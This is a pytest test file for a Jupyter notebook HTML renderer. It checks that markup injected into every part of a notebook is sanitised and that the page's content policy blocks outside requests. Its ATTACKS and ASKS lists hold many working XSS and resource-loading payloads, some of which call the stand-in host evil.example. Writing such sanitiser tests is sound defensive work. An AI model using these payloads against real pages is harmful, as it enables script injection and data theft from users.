from __future__ import annotations

import base64
import json
import re
import shutil
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from workbench.execution.rendering import load_renderer, notebook_page, page_beside

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT >",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=https://evil.example/pixel.png>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img srcset='https://evil.example/a.png 2x'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='https://evil.example'>x</a>",
    "<form action='https://evil.example'><input name=a autofocus onfocus=alert(1)><button>go</button></form>",
    "<div onmouseover=alert(1) style='background:url(https://evil.example/x)'>x</div>",
    "<div style='width: expression(alert(1)); position: fixed; top: 0'>x</div>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<style>@import 'https://evil.example/x.css'",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<body onload=alert(1)>",
    "</main></body></html><script>alert(1)</script>",
    "</div></div></div></div><script>alert(1)</script>",
    "<video><source onerror=alert(1)></video><audio src=https://evil.example/a autoplay>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "[x](javascript:alert(1)) ![x](https://evil.example/x.png) <https://evil.example>",
    '![x](x" onerror="alert(1))',
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "$$</script><script>alert(1)</script>$$",
]
HARMLESS = """
    html head title meta style body main div span p pre br hr ul ol li h1 h2 h3 h4 h5 h6 blockquote
    table caption thead tbody tfoot tr td th img a b code em i small strong sub sup
"""


class Page(HTMLParser):
    """The tags of a page with their attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attributes}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def of(self, tag: str) -> list[dict[str, str]]:
        return [attributes for name, attributes in self.tags if name == tag]


def render(*cells: dict[str, Any], **metadata: Any) -> str:
    listed = [{"id": f"cell-{place}", "metadata": {}, **cell} for place, cell in enumerate(cells)]
    return notebook_page(json.dumps({"cells": listed, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}))


def markdown(text: str) -> dict[str, Any]:
    return {"cell_type": "markdown", "source": text}


def code(*outputs: dict[str, Any], source: str = "1") -> dict[str, Any]:
    return {"cell_type": "code", "source": source, "execution_count": 1, "outputs": list(outputs)}


def shown(data: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata}


def everywhere(attack: str) -> list[dict[str, Any]]:
    """One text in every place of a notebook that ends up in its page."""
    return [
        markdown(attack),
        {"cell_type": "raw", "source": attack, "metadata": {"raw_mimetype": "text/html"}},
        {**code(source=attack), "metadata": {"tags": [attack]}},
        code(
            shown({"text/html": attack}),
            shown({"text/markdown": attack}),
            shown({"text/plain": attack}),
            shown({"text/latex": attack}),
            shown({"text/vnd.mermaid": attack}),
            shown({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{attack}</svg>"}),
            shown({"image/png": attack}),
            shown(
                {"image/png": PIXEL}, **{"image/png": {"width": f"1 {attack} onload=alert(1)", "height": "1 onerror=alert(1)"}}
            ),
            shown({"image/jpeg": PIXEL}, filenames={"image/jpeg": f"https://evil.example/{attack}"}),
            shown({"application/javascript": attack}),
            shown({"application/vnd.jupyter.widget-view+json": {"model_id": attack}}),
            {"output_type": "stream", "name": "stdout", "text": attack},
            {"output_type": "stream", "name": "stderr", "text": f"\x1b[31m{attack}\x1b]8;;https://evil.example\x07x"},
            {"output_type": "error", "ename": attack, "evalue": attack, "traceback": [attack]},
        ),
    ]


def assert_harmless(html: str) -> None:
    page = Page(html)
    assert {tag for tag, _ in page.tags} <= set(HARMLESS.split())
    for tag, attributes in page.tags:
        assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
        assert attributes.get("src", "data:image/").startswith("data:image/"), (tag, attributes)
        assert attributes.get("href", "#").startswith("#"), (tag, attributes)
        assert not attributes.keys() & {"srcset", "srcdoc", "action", "formaction", "background", "poster", "xlink:href", "data"}
        assert "url(" not in attributes.get("style", "")
        assert "position" not in attributes.get("style", "")
    for style in re.findall(r"<style.*?</style>", html, re.DOTALL):
        assert not re.search(r"(?:url\(|@import)\s*['\"]?(?:https?:)?//", style)
    refreshes = [meta for meta in page.of("meta") if meta.get("http-equiv", "") not in ("", "Content-Security-Policy")]
    assert refreshes == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_is_left_wherever_it_stands(attack):
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {attack: {}}, "version_major": 2, "version_minor": 0}}
    assert_harmless(render(*everywhere(attack), title=attack, widgets=widgets))


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(parts=st.lists(st.sampled_from(ATTACKS) | st.text("<>\"'=/ abnom!-\n`", max_size=8), min_size=1, max_size=4))
def test_nothing_of_attacks_in_pieces_is_left(parts):
    assert_harmless(render(*everywhere("".join(parts))))


def test_the_page_forbids_itself_every_request():
    page = Page(render(markdown("# Title")))
    (policy,) = [meta["content"] for meta in page.of("meta") if "http-equiv" in meta]
    assert policy == "default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src data:"
    assert page.tags[page.tags.index(("head", {})) + 1][1]["content"] == policy, "before anything that could ask for something"


def test_an_output_cannot_reach_out_of_its_cell():
    html = render(code(shown({"text/html": "</div></div></div></main><b>loose"})), markdown("The end."))
    assert html.count("<main>") == html.count("</main>") == 1
    assert Page(html).text.rstrip().endswith("The end.")
    assert html.index("The end.") < html.index("</main>")


def test_headings_tables_and_emphasis_survive():
    table = (
        "<style scoped>.dataframe td {color: red}</style><table border='1' class='dataframe'><caption>rates</caption>"
        "<thead><tr style='text-align: right;'><th></th><th>rate</th></tr></thead>"
        "<tbody><tr><th>men</th><td colspan='2' style='color: #1a7f37; font-weight: bold'>0.5</td></tr></tbody></table>"
    )
    html = render(
        markdown("# One\n\n## Two\n\n**bold** `code`\n\n- item\n\n| a | b |\n|---|---|\n| 1 | 2 |"),
        code(shown({"text/html": table})),
    )
    page = Page(html)
    for tag, count in {"h1": 1, "h2": 1, "strong": 1, "code": 1, "li": 1, "table": 2, "caption": 1, "th": 5, "td": 3}.items():
        assert len(page.of(tag)) == count, tag
    assert {"colspan": "2", "style": "color: #1a7f37; font-weight: bold;"} in page.of("td")
    assert ".dataframe td" not in page.text, "what a style sheet says is not text"


def test_pictures_stay_as_part_of_the_page():
    svg = "<svg xmlns='http://www.w3.org/2000/svg'><circle r='3'/></svg>"
    page = Page(render(code(shown({"image/png": PIXEL}), shown({"image/svg+xml": svg}))))
    png, drawing = [image["src"] for image in page.of("img")]
    assert png == f"data:image/png;base64,{PIXEL}"
    assert base64.b64decode(drawing.removeprefix("data:image/svg+xml;base64,")).decode() == svg


def test_attached_pictures_of_prose_stay():
    cell = {**markdown("![a pixel](attachment:a.png)"), "attachments": {"a.png": {"image/png": PIXEL}}}
    assert [image["src"] for image in Page(render(cell)).of("img")] == [f"data:image/png;base64,{PIXEL}"]


def test_code_and_text_are_shown_as_they_are_written():
    source = "frame.filter(a < 3 & b > 2)  # <b>not bold</b>"
    page = Page(render(code({"output_type": "stream", "name": "stdout", "text": "1 < 2 & <i>plain</i>"}, source=source)))
    assert source in page.text
    assert "1 < 2 & <i>plain</i>" in page.text
    assert page.of("b") == page.of("i") == []


def test_colours_of_a_traceback_survive():
    html = render(code({"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["\x1b[31mValueError\x1b[0m: no"]}))
    assert "ValueError" in Page(html).text
    assert re.search(r'<span class="ansi-red-fg">ValueError</span>', html)


def test_links_within_the_notebook_stay():
    assert "#two" in [link.get("href") for link in Page(render(markdown("[there](#two)\n\n# two"))).of("a")]


def test_the_page_beside_a_notebook_is_rendered_once(tmp_path: Path) -> None:
    executed = tmp_path / "01_prepare.ipynb"
    executed.write_text(json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}), encoding="utf-8")
    page = page_beside(executed)
    assert page.name == "01_prepare.html"
    assert page.read_text(encoding="utf-8").endswith("</html>")
    page.write_text("kept", encoding="utf-8")
    assert page_beside(executed).read_text(encoding="utf-8") == "kept"


def test_a_renderer_that_was_loaded_ahead_renders_the_same_page() -> None:
    before = render(markdown("# title"), code(shown({"text/html": "<p>x</p>"})))
    load_renderer()
    assert render(markdown("# title"), code(shown({"text/html": "<p>x</p>"}))) == before


ASKS = [
    *ATTACKS,
    "<svg><image href='https://evil.example/i.png'/><use href='https://evil.example/u.svg#a'/></svg>",
    "<svg><style>@import 'https://evil.example/s.css'; rect{fill:url(https://evil.example/f)}</style><rect/></svg>",
    "<svg><animate attributeName=href to='javascript:alert(1)' begin=0s /><set attributeName=onload to=alert(1) /></svg>",
    "<svg><foreignObject><iframe src='https://evil.example'></iframe></foreignObject></svg>",
    "<ul style='list-style-image:url(https://evil.example/l)'><li style='content:url(https://evil.example/c)'>x</li></ul>",
    "<p style='background-image:image-set(\"https://evil.example/s\" 1x);border-image:url(https://evil.example/b)'>x</p>",
    "<style>@font-face{font-family:f;src:url(https://evil.example/f.woff)} *{font-family:f}</style><p>text</p>",
    "<table background='https://evil.example/t'><tr><td background='https://evil.example/d'>x</td></tr></table>",
    "<input type=image src='https://evil.example/i'><img lowsrc='https://evil.example/l' dynsrc='https://evil.example/d'>",
    "<link rel=prefetch href='https://evil.example/p'><link rel=dns-prefetch href='https://evil.example'>",
    "<script type=module>import 'https://evil.example/m.js'</script><script src='https://evil.example/n.js' async></script>",
    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\'>',
    "<frameset><frame src='https://evil.example'></frameset><portal src='https://evil.example'></portal>",
]


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed: apt-get install chromium")
@pytest.mark.parametrize("policy", ["with its policy", "without its policy"])
def test_a_browser_that_opens_a_hostile_notebook_asks_nobody_and_runs_nothing(policy, tmp_path):
    """Each of the two defences holds alone: nothing hostile is left in the page, and its policy would stop what was."""
    playwright = pytest.importorskip("playwright.sync_api")
    asked: list[str] = []
    with HTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler) as listener, playwright.sync_playwright() as started:
        attacks = [attack.replace("https://evil.example", f"http://127.0.0.1:{listener.server_port}") for attack in ASKS]
        page_file = tmp_path / "page.html"
        html = render(*(cell for attack in attacks for cell in everywhere(attack)))
        page_file.write_text(html if policy == "with its policy" else html.replace("Content-Security-Policy", "X-Nothing"))
        browser = started.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        page = browser.new_page()
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss()))
        page.on("popup", lambda popup: asked.append(popup.url))
        page.goto(page_file.as_uri(), wait_until="networkidle")
        for element in page.query_selector_all("main [id], main a, main img, main div")[:200]:
            element.dispatch_event("mouseover")
        page.wait_for_load_state("networkidle")
        assert page.url == page_file.as_uri(), "no refresh leads away"
        assert (
            page.evaluate("document.querySelectorAll('script, iframe, object, embed, form, base, link, main meta').length") == 0
        )
        browser.close()
    assert [one for one in asked if not one.startswith("data:image/")] == [page_file.as_uri()]
